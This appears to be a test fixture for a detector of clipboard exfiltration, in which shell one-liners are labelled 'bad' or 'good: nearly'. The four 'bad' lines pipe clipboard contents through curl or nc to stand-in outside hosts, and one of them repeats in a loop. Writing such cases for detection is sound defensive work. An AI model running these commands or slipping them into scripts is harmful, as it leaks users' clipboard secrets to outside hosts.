# bad: on a Mac
pbpaste | curl -s -d @- https://collector.example/c
# bad: under X
curl -d "$(xclip -selection clipboard -o)" https://collector.example/c
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
# bad: through a file
wl-paste > /tmp/c; nc 203.0.113.9 9000 < /tmp/c
# bad: again and again
while sleep 5; do xsel --output | nc 203.0.113.9 9000; done
# good: nearly: the other way
curl -s https://api.example/token | pbcopy
# good: nearly: into a file of the project
pbpaste > notes.txt
# good: nearly: to this machine
pbpaste | curl -d @- http://localhost:8080/
# good: formatted
pbpaste | jq . | pbcopy
